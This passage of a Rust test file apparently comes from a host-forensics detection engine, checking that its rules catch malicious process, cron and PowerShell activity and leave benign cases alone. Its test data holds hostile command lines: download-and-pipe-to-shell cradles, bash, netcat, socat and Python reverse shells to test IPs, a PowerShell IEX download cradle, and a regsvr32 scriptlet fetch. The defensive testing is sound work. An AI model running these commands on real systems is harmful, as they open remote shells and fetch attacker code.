    let f = findings_for(&[svc, ps, conn(4, "198.51.99.9")]);
    assert!(rule_ids(&f).contains(&"corr-exec-to-c2"));
    assert!(!rule_ids(&f).contains(&"corr-user-action-to-c2"));
}

#[test]
fn office_child_and_ancestry_rebuilt_by_pid() {
    let word = Observation::new(
        ObservationKind::Process,
        EvidenceRef::new("records/processes.jsonl", 1),
    )
    .pids(Some(100), Some(1))
    .image(Some(
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    ));
    let cmd = Observation::new(
        ObservationKind::Process,
        EvidenceRef::new("records/processes.jsonl", 2),
    )
    .pids(Some(200), Some(100))
    .image(Some("C:\\Windows\\System32\\cmd.exe"))
    .command_line(Some("cmd.exe /c powershell -w hidden -nop -c calc"));
    let ps = Observation::new(
        ObservationKind::Process,
        EvidenceRef::new("records/processes.jsonl", 3),
    )
    .pids(Some(300), Some(200))
    .image(Some(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    ))
    .command_line(Some("powershell -w hidden -nop -c calc"));
    let f = findings_for(&[word, cmd, ps]);
    let ids = rule_ids(&f);
    assert!(ids.contains(&"office-spawns-interpreter"), "{ids:?}");
    assert!(ids.contains(&"office-descendant-interpreter"), "{ids:?}");
    assert!(ids.contains(&"ps-hidden-stealth-flags"), "{ids:?}");
}

#[test]
fn reverse_shells_and_cradles_in_cron() {
    let cron = |cmd: &str| {
        Observation::new(
            ObservationKind::CronCommand,
            EvidenceRef::new("records/scheduled_tasks.jsonl", 1),
        )
        .command_with_image(Some(cmd))
    };
    let cases = [
        (
            "curl -fsSL http://x.example/i.sh | sh",
            "scheduled-download-pipe-shell",
        ),
        (
            "wget -q -O- http://x.example/i | bash",
            "scheduled-download-pipe-shell",
        ),
        (
            "/bin/bash -c 'bash -i >& /dev/tcp/198.51.99.1/4444 0>&1'",
            "unix-reverse-shell",
        ),
        ("nc -e /bin/sh 198.51.99.1 4444", "unix-reverse-shell"),
        (
            "socat tcp-connect:198.51.99.1:4444 exec:/bin/sh,pty,stderr",
            "unix-reverse-shell",
        ),
        (
            "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"1.2.3.4\",1));os.dup2(s.fileno(),0)'",
            "unix-reverse-shell",
        ),
        (
            "python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"",
            "python-inline-suspicious",
        ),
        ("/tmp/.x/kworker", "scheduled-job-from-temp"),
        ("/home/bob/.cache/.sys/miner", "scheduled-job-hidden-dir"),
    ];
    for (cmd, rule) in cases {
        let f = findings_for(&[cron(cmd)]);
        assert!(rule_ids(&f).contains(&rule), "{cmd}: {:?}", rule_ids(&f));
    }
}

#[test]
fn extra_rule_files_load_like_builtins_and_fail_with_line() {
    let good = r#"
[[rule]]
id = "local-tool"
title = "Local red-team tool"
description = "Our own marker."
techniques = ["T1059"]
tactic = "execution"
severity = "low"
applies_to = ["process"]
when = { field = "command_line", contains = ["redteam-marker"] }
"#;
    let engine = Engine::with_extra_rules(&[("site.toml".into(), good.into())]).unwrap();
    let o = Observation::new(
        ObservationKind::Process,
        EvidenceRef::new("records/processes.jsonl", 1),
    )
    .command_with_image(Some("x.exe --redteam-marker"));
    let f = engine.run(&[o]);
    assert_eq!(f.items[0].rule_origin, "site.toml");

    let err = load_rules(&good.replace("applies_to", "apply_to"), "site.toml").unwrap_err();
    assert_eq!((err.origin.as_str(), err.line), ("site.toml", 9), "{err}");
    assert!(err.reason.contains("apply_to"), "{err}");
    // An id clashing with a built-in is refused.
    let clash = good.replace("local-tool", "ps-encoded-command");
    let e = Engine::with_extra_rules(&[("site.toml".into(), clash)])
        .err()
        .unwrap();
    assert!(e.reason.contains("already used"), "{e}");
}

#[test]
fn findings_serialize_as_json_lines_sorted_by_severity() {
    let f = findings_for(&task_observations(&fixture(MALICIOUS_TASKS[0].0)));
    let jsonl = f.to_jsonl().unwrap();
    let sev: Vec<Severity> = jsonl
        .lines()
        .map(|l| serde_json::from_str::<Finding>(l).unwrap().severity)
        .collect();
    assert!(!sev.is_empty());
    assert!(sev.windows(2).all(|w| w[0] >= w[1]), "{sev:?}");
    let first: serde_json::Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
    for key in [
        "rule_id",
        "title",
        "description",
        "techniques",
        "tactic",
        "severity",
        "evidence",
        "matched",
    ] {
        assert!(first.get(key).is_some(), "{key}");
    }
}

// ---- measurement ---------------------------------------------------------------------------

#[derive(Default)]
struct Tally {
    observations: usize,
    flagged_observations: usize,
    alerted_observations: usize,
    by_severity: BTreeMap<Severity, usize>,
}

impl Tally {
    fn add(&mut self, obs: &[Observation], f: &Findings) {
        self.observations += obs.len();
        // An observation is flagged when a low-or-worse finding points at its record, alerted
        // when a medium-or-worse one does (what a responder must read).
        let hit = |min: Severity| {
            let mut set = std::collections::HashSet::new();
            for x in f.iter().filter(|x| x.severity >= min) {
                for e in &x.evidence {
                    set.insert((e.member.clone(), e.line, e.source_path.clone()));
                }
            }
            obs.iter()
                .filter(|o| {
                    set.contains(&(
                        o.evidence.member.clone(),
                        o.evidence.line,
                        o.evidence.source_path.clone(),
                    ))
                })
                .count()
        };
        self.flagged_observations += hit(Severity::Low);
        self.alerted_observations += hit(Severity::Medium);
        for x in f.iter() {
            *self.by_severity.entry(x.severity).or_insert(0) += 1;
        }
    }
}

#[test]
fn measurement() {
    println!("\n== malicious fixtures (EVTX, tasks) ==");
    let (mut hit, mut total) = (0, 0);
    // (fixture, observations, expected techniques)
    type Case<'a> = (String, Vec<Observation>, Option<Vec<&'a str>>);
    let mut fixtures: Vec<Case> = Vec::new();
    for (rel, exp) in MALICIOUS_EVTX {
        fixtures.push((
            rel.to_string(),
            evtx_observations(&fixture(rel)),
            exp.map(|e| e.to_vec()),
        ));
    }
    for (rel, exp) in MALICIOUS_TASKS {
        fixtures.push((
            rel.to_string(),
            task_observations(&fixture(rel)),
            Some(exp.to_vec()),
        ));
    }
    for (rel, obs, exp) in &fixtures {
        let f = findings_for(obs);
        let name = rel.rsplit('/').next().unwrap_or(rel);
        let sev = f.iter().map(|x| x.severity).max();
        match exp {
            Some(exp) => {
                total += 1;
                let ok = has_technique(&f, exp);
                hit += usize::from(ok);
                println!(
                    "{:<4} {:<70} obs={:<5} findings={:<3} max={:?} want={:?}",
                    if ok { "HIT" } else { "MISS" },
                    name,
                    obs.len(),
                    f.len(),
                    sev,
                    exp
                );
            }
            None => println!(
                "n/a  {:<70} obs={:<5} findings={:<3} max={:?} (no execution indicator)",
                name,
                obs.len(),
                f.len(),
                sev
            ),
        }
    }
    println!(
        "EVTX+tasks detection: {hit}/{total} = {:.1} %",
        100.0 * hit as f64 / total as f64
    );

    println!("\n== Atomic Red Team command lines (independent of the EVTX samples) ==");
    let atomics = all_atomics();
    let (mut a_hit, mut a_any, mut a_total) = (0, 0, 0);
    // Tests whose command only calls the Atomic test harness (Invoke-ATH*, Out-ATH*,
    // Invoke-MalDoc): what they execute is inside the harness, not in the command text.
    let (mut h_hit, mut h_total) = (0, 0);
    let harness_only = |c: &str| {
        let l = c.to_ascii_lowercase();
        l.contains("invoke-ath") || l.contains("out-ath") || l.contains("invoke-maldoc")
    };
    let mut per: BTreeMap<String, (usize, usize)> = BTreeMap::new();
    for (i, a) in atomics.iter().enumerate() {
        let obs = atomic_observations(a, i as u64 + 1);
        if obs.is_empty() {
            continue;
        }
        a_total += 1;
        let f = findings_for(&obs);
        let ok = has_technique(&f, &[a.technique.as_str()]);
        a_hit += usize::from(ok);
        a_any += usize::from(!f.is_empty());
        if !harness_only(&a.command) {
            h_total += 1;
            h_hit += usize::from(ok);
        }
        let e = per.entry(a.technique.clone()).or_default();
        e.0 += usize::from(ok);
        e.1 += 1;
        if !ok {
            println!(
                "MISS {} | {} | {} | found {:?}",
                a.technique,
                a.name,
                a.executor,
                rule_ids(&f)
            );
        }
    }
    for (t, (h, n)) in &per {
        println!("{t:<10} {h}/{n}");
    }
    println!(
        "atomics: right technique {a_hit}/{a_total} = {:.1} %; any finding {a_any}/{a_total} = {:.1} %",
        100.0 * a_hit as f64 / a_total as f64,
        100.0 * a_any as f64 / a_total as f64
    );

    println!(
        "atomics whose command is not a harness call: right technique {h_hit}/{h_total} = {:.1} %",
        100.0 * h_hit as f64 / h_total as f64
    );

    println!("\n== benign fixtures and this host ==");
    let mut benign: Vec<(String, Vec<Observation>)> = Vec::new();
    for rel in BENIGN_EVTX {
        benign.push((rel.to_string(), evtx_observations(&fixture(rel))));
    }
    benign.push((
        "tasks: stock Microsoft/vendor tasks".into(),
        benign_task_paths()
            .iter()
            .flat_map(|p| task_observations(p))
            .collect(),
    ));
    benign.push((
        "linux: Debian crontabs, anacrontab, timers".into(),
        linux_observations(),
    ));
    benign.push((
        "history: Belkasoft PSReadLine (Chocolatey cradle)".into(),
        psreadline_observations(),
    ));
    // This machine is shown, never counted: a CI runner or a responder's lab box runs
    // suspicious-looking processes, and the rate is about the fixtures.
    benign.push((
        "live (shown, not in the rate): this machine's processes and sockets".into(),
        live_observations(),
    ));
    let mut all = Tally::default();
    for (name, obs) in &benign {
        let f = findings_for(obs);
        let mut t = Tally::default();
        t.add(obs, &f);
        if !name.starts_with("live ") {
            all.add(obs, &f);
        }
        println!(
            "{:<60} obs={:<5} low+={:<4} medium+={:<4} findings by severity {:?}",
            name, t.observations, t.flagged_observations, t.alerted_observations, t.by_severity
        );
        for x in f.iter() {
            println!(
                "     {:?} {} — {}",
                x.severity,
                x.rule_id,
                x.summary.chars().take(140).collect::<String>()
            );
        }
    }
    let n = all.observations.max(1) as f64;
    let low = 100.0 * all.flagged_observations as f64 / n;
    let fp = 100.0 * all.alerted_observations as f64 / n;
    println!(
        "benign: {} observations; with a medium+ finding {} = {fp:.2} %; with a low+ finding {} = {low:.2} %; findings by severity {:?}",
        all.observations, all.alerted_observations, all.flagged_observations, all.by_severity
    );

    assert!(hit * 100 >= total * 95, "EVTX/task detection below 95 %");
    assert!(
        a_hit * 100 >= a_total * 70,
        "atomics detection collapsed: {a_hit}/{a_total}"
    );
    assert!(fp < 5.0, "benign medium+ rate {fp:.2} %");
}

#[test]
fn archive_extraction_taskcache_edits_and_remoting_fire_and_near_misses_do_not() {
    let process = |image: &str, cmd: &str| {
        Observation::new(
            ObservationKind::Process,
            EvidenceRef::new("records/processes.jsonl", 1),
        )
        .image(Some(image))
        .command_line(Some(cmd))
    };
    let history = |cmd: &str| {
        Observation::new(
            ObservationKind::HistoryCommand,
            EvidenceRef::new("records/powershell_logs.jsonl", 1),
        )
        .command_line(Some(cmd))
    };
    let fires = |o: Observation, rule: &str| rule_ids(&findings_for(&[o])).contains(&rule);

    // Explorer, 7-Zip and WinRAR extraction folders; a folder named like an archive.
    let t = "C:\\Users\\bob\\AppData\\Local\\Temp\\";
    for image in [
        format!("{t}Temp1_invoice.zip\\invoice.exe"),
        format!("{t}7zO4A1B2C3D\\setup.exe"),
        format!("{t}Rar$EXa1234.5678\\doc.exe"),
        "D:\\payload.iso\\run.exe".to_string(),
    ] {
        assert!(
            fires(process(&image, &image), "exe-from-archive"),
            "{image}"
        );
    }
    assert!(fires(
        process(
            "C:\\Windows\\System32\\wscript.exe",
            &format!("wscript.exe \"{t}Temp1_scan.zip\\scan_0042.js\""),
        ),
        "exec-from-archive"
    ));
    // Not an extraction: a zip next to the program, or a name that only contains "zip".
    assert!(!fires(
        process(
            "C:\\Program Files\\7-Zip\\7zFM.exe",
            "\"C:\\Program Files\\7-Zip\\7zFM.exe\" C:\\Users\\bob\\Downloads\\tools.zip"
        ),
        "exe-from-archive"
    ));
    assert!(!fires(
        process("C:\\Tools\\gzip\\gzip.exe", "gzip.exe -d x.gz"),
        "exe-from-archive"
    ));

    // Tasks written straight into the registry (Tarrask / Ghost Task style).
    let tree =
        "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Updater";
    assert!(fires(
        process(
            "C:\\Windows\\System32\\reg.exe",
            &format!("reg.exe delete \"{tree}\" /v SD /f")
        ),
        "task-cache-registry-edit"
    ));
    assert!(fires(
        history(
            "Remove-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Updater' -Name SD"
        ),
        "task-cache-registry-edit"
    ));
    // Reading the key is inventory, not tampering.
    assert!(!fires(
        process(
            "C:\\Windows\\System32\\reg.exe",
            &format!("reg.exe query \"{tree}\"")
        ),
        "task-cache-registry-edit"
    ));

    // PowerShell remoting.
    assert!(fires(
        history("New-PSSession -ComputerName dc01"),
        "ps-remoting-session"
    ));
    assert!(fires(
        history("Invoke-Command -ComputerName web01 -ScriptBlock { whoami }"),
        "ps-remoting-session"
    ));
    assert!(!fires(
        history("Invoke-Command -ScriptBlock { whoami }"),
        "ps-remoting-session"
    ));
}

/// A renamed LOLBin is what it was built as: Sysmon's OriginalFileName keeps the name, so the
/// regsvr32 scriptlet rule fires on `jabber.exe`, and the rename itself is a finding.
#[test]
fn renamed_lolbins_are_known_by_their_original_name() {
    let e = EvidenceRef::new("records/execution_events.jsonl", 1);
    let renamed = Observation::new(ObservationKind::ProcessEvent, e.clone())
        .image(Some(r"C:\Users\bob\AppData\Local\Temp\jabber.exe"))
        .original_name(Some("REGSVR32.EXE"))
        .command_line(Some(
            r"jabber.exe /u /s /i:http://198.51.100.7/a.sct .\jabber.dll",
        ));
    let f = findings_for(&[renamed]);
    let ids = rule_ids(&f);
    assert!(ids.contains(&"renamed-system-binary"), "{ids:?}");
    assert!(ids.contains(&"lolbin-regsvr32-scriptlet"), "{ids:?}");
    // The same binary under its own name, or an unknown original name, is no rename.
    for (image, original) in [
        (r"C:\Windows\System32\regsvr32.exe", "REGSVR32.EXE"),
        (
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "PowerShell.EXE.MUI",
        ),
        (r"C:\Tools\thing.exe", "-"),
    ] {
        let o = Observation::new(ObservationKind::ProcessEvent, e.clone())
            .image(Some(image))
            .original_name(Some(original))
            .command_line(Some(image));
        let f = findings_for(&[o]);
        assert!(!rule_ids(&f).contains(&"renamed-system-binary"), "{image}");
    }
}

/// "Know normal": core processes with a foreign parent or outside System32, and servers that
/// start shells, each judged by what the hunting posters say is normal.
#[test]
fn remote_execution_hosts_and_boot_programs_are_judged_by_parent() {
    let e = EvidenceRef::new("records/execution_events.jsonl", 1);
    let proc_ = |image: &str, parent: &str, parent_cmd: &str, cmd: &str| {
        Observation::new(ObservationKind::ProcessEvent, e.clone())
            .image(Some(image))
            .parent_image(Some(parent))
            .parent_command_line(Some(parent_cmd))
            .command_line(Some(cmd))
    };
    let sys = r"C:\Windows\System32";
    let cases: &[(&str, &str, &str, &str, Option<&str>)] = &[
        // Any program under the remoting hosts, not only shells.
        (
            "HOSTNAME.EXE",
            "wsmprovhost.exe",
            "wsmprovhost.exe -Embedding",
            "HOSTNAME.EXE",
            Some("remote-session-host-child"),
        ),
        (
            "cmd.exe",
            "winrshost.exe",
            "WinrsHost.exe -Embedding",
            "cmd.exe /C ipconfig",
            Some("remote-session-host-child"),
        ),
        (
            "conhost.exe",
            "wsmprovhost.exe",
            "wsmprovhost.exe -Embedding",
            "conhost.exe 0xffffffff -ForceV1",
            None,
        ),
        (
            "cmd.exe",
            "mmc.exe",
            "mmc.exe -Embedding",
            "cmd.exe /c whoami",
            Some("dcom-host-spawns-shell"),
        ),
        // An admin's own console opening a prompt is not DCOM.
        (
            "cmd.exe",
            "mmc.exe",
            r#""C:\Windows\system32\mmc.exe" "C:\Windows\system32\compmgmt.msc""#,
            "cmd.exe",
            None,
        ),
        // The Impacket redirection names the family whatever the parent.
        (
            "cmd.exe",
            "WmiPrvSE.exe",
            "wmiprvse.exe -secured -Embedding",
            r"cmd.exe /Q /c whoami /all 1> \\127.0.0.1\ADMIN$\__1556656511.61 2>&1",
            Some("remote-exec-output-to-admin-share"),
        ),
        (
            "cmd.exe",
            "services.exe",
            "services.exe",
            r"%COMSPEC% /Q /c echo dir ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat",
            Some("remote-exec-output-to-admin-share"),
        ),
        (
            "cmd.exe",
            "explorer.exe",
            "explorer.exe",
            r"cmd.exe /c copy report.txt \\fileserver\share\__report.txt",
            None,
        ),
        (
            "cmd.exe",
            "smss.exe",
            r"\SystemRoot\System32\smss.exe",
            r"c:\windows\system32\cmd.exe",
            Some("smss-unexpected-child"),
        ),
        (
            "autochk.exe",
            "smss.exe",
            r"\SystemRoot\System32\smss.exe",
            "autochk *",
            None,
        ),
        // Sysprep's first boot (seen on a benign museum host's Security log).
        (
            "setupcl.exe",
            "smss.exe",
            r"\SystemRoot\System32\smss.exe",
            r"C:\Windows\System32\setupcl.exe",
            None,
        ),
        (
            "csrss.exe",
            "smss.exe",
            r"\SystemRoot\System32\smss.exe",
            "csrss.exe ObjectDirectory=\\Windows",
            None,
        ),
    ];
    for (image, parent, parent_cmd, cmd, want) in cases {
        let f = findings_for(&[proc_(
            &format!(r"{sys}\{image}"),
            &format!(r"{sys}\{parent}"),
            parent_cmd,
            cmd,
        )]);
        let ids = rule_ids(&f);
        let judged: Vec<&&str> = ids
            .iter()
            .filter(|i| {
                [
                    "remote-session-host-child",
                    "dcom-host-spawns-shell",
                    "remote-exec-output-to-admin-share",
                    "smss-unexpected-child",
                ]
                .contains(i)
            })
            .collect();
        match want {
            Some(id) => assert!(ids.contains(id), "{image} <- {parent}: {ids:?}"),
            None => assert!(judged.is_empty(), "{image} <- {parent} ({cmd}): {judged:?}"),
        }
    }
}

#[test]
fn know_normal_rules_judge_parents_directories_and_servers() {
    let e = EvidenceRef::new("records/execution_events.jsonl", 1);
    let proc_ = |image: &str, parent: &str, cmd: &str| {
        Observation::new(ObservationKind::ProcessEvent, e.clone())
            .image(Some(image))
            .parent_image(Some(parent))
            .command_line(Some(cmd))
    };
    let cases: &[(&str, &str, &str, Option<&str>)] = &[
        (
            r"C:\Windows\System32\lsass.exe",
            r"C:\Windows\System32\cmd.exe",
            "lsass.exe",
            Some("core-process-unexpected-parent"),
        ),
        (
            r"C:\Windows\System32\svchost.exe",
            r"C:\Windows\System32\services.exe",
            "svchost.exe -k netsvcs",
            None,
        ),
        (
            r"C:\Users\Public\svchost.exe",
            r"C:\Windows\System32\services.exe",
            "svchost.exe -k netsvcs",
            Some("core-process-wrong-directory"),
        ),
        (
            r"C:\Windows\SysWOW64\rundll32.exe",
            r"C:\Windows\explorer.exe",
            "rundll32.exe shell32.dll,Control_RunDLL",
            None,
        ),
        (
            r"C:\Windows\System32\cmd.exe",
            r"C:\Program Files\Microsoft SQL Server\MSSQL15\Binn\sqlservr.exe",
            "cmd.exe /c whoami",
            Some("server-process-spawns-shell"),
        ),
        (
            r"C:\Windows\System32\cmd.exe",
            r"C:\Windows\System32\wermgr.exe",
            "cmd.exe /c calc.exe",
            Some("server-process-spawns-shell"),
        ),
        // A developer's npm script is not a web shell; whoami under node is.
        (
            r"C:\Windows\System32\cmd.exe",
            r"C:\Program Files\nodejs\node.exe",
            "cmd.exe /d /s /c npm run build",
            None,
        ),
        (
            r"C:\Windows\System32\cmd.exe",
            r"C:\Program Files\nodejs\node.exe",
            "cmd.exe /c whoami /all",
            Some("server-process-spawns-shell"),
        ),
    ];
    for (image, parent, cmd, want) in cases {
        let f = findings_for(&[proc_(image, parent, cmd)]);
        let ids = rule_ids(&f);
        let know: Vec<&&str> = ids
            .iter()
            .filter(|i| i.starts_with("core-process") || i.starts_with("server-process"))
            .collect();
        match want {
            Some(id) => assert!(ids.contains(id), "{image} <- {parent}: {ids:?}"),
            None => assert!(know.is_empty(), "{image} <- {parent}: {know:?}"),
        }
    }
}

/// The known-benign list silences Windows Update's own use of a proxy-execution switch, not
/// the abuse of it; `--rules` files may add entries, refused loudly when they name no rule or
/// no condition; silenced findings are counted.
#[test]
fn the_known_benign_list_silences_normal_activity_and_counts_it() {
    let e = EvidenceRef::new("records/execution_events.jsonl", 1);
    let wu = |cmd: &str| {
        Observation::new(ObservationKind::ProcessEvent, e.clone())
            .image(Some(r"C:\Windows\System32\wuauclt.exe"))
            .parent_image(Some(r"C:\Windows\System32\svchost.exe"))
            .command_line(Some(cmd))
    };
    let normal = wu(
        r#""C:\Windows\system32\wuauclt.exe" /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId 3a3f4b2c-0000-0000-0000-000000000000 /RunHandlerComServer"#,
    );
    let abuse = wu(
        r#"wuauclt.exe /UpdateDeploymentProvider C:\Users\Public\evil.dll /RunHandlerComServer"#,
    );
    let f = findings_for(&[normal]);
    assert!(
        !rule_ids(&f).contains(&"lolbin-proxy-execution"),
        "{:?}",
        rule_ids(&f)
    );
    assert_eq!(
        f.allowed.get("windows-update-deployment-provider"),
        Some(&1)
    );
    let f = findings_for(&[abuse]);
    assert!(
        rule_ids(&f).contains(&"lolbin-proxy-execution"),
        "{:?}",
        rule_ids(&f)
    );
    assert!(f.allowed.is_empty());

    // A case's own entry, in a --rules file.
    let own = r#"
[[allow]]
id = "backup-agent"
why = "The backup agent's nightly PowerShell, checked with its vendor."
rules = ["ps-*"]
image = ['\\powershell\.exe$']
parent_image = ['\\backupagent\.exe$']
"#;
    let engine = Engine::with_extra_rules(&[("case.toml".into(), own.into())]).unwrap();
    assert_eq!(engine.allows().len(), 2);
    let ps = Observation::new(ObservationKind::ProcessEvent, e.clone())
        .image(Some(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"))
        .parent_image(Some(r"C:\Program Files\Backup\backupagent.exe"))
        .command_line(Some("powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a')"));
    let loud = Engine::builtin().unwrap().run(std::slice::from_ref(&ps));
    let quiet = engine.run(&[ps]);
    let ps_rules = |f: &Findings| f.iter().filter(|x| x.rule_id.starts_with("ps-")).count();
    assert!(ps_rules(&loud) > 0);
    assert_eq!(ps_rules(&quiet), 0);
    assert!(quiet.allowed["backup-agent"] >= 1);

    for (bad, why) in [
        (
            "[[allow]]\nid = \"x\"\nwhy = \"y\"\nrules = [\"no-such-rule\"]\nimage = ['a']\n",
            "no rule has the id",
        ),
        (
            "[[allow]]\nid = \"x\"\nwhy = \"y\"\nrules = [\"lolbin-proxy-execution\"]\n",
            "at least one of",
        ),
        (
            "[[allow]]\nid = \"x\"\nwhy = \"y\"\nrules = [\"*\"]\nimage = ['a']\n",
            "rules must name",
        ),
        (
            "[[allow]]\nid = \"x\"\nwhy = \"y\"\nrules = [\"lolbin-proxy-execution\"]\nimage = ['(']\n",
            "bad regex",
        ),
    ] {
        let err = Engine::with_extra_rules(&[("case.toml".into(), bad.into())])
            .err()
            .unwrap_or_else(|| panic!("accepted: {bad}"));
        let msg = err.to_string();
        assert!(msg.contains(why) && msg.starts_with("case.toml:"), "{msg}");
    }
}
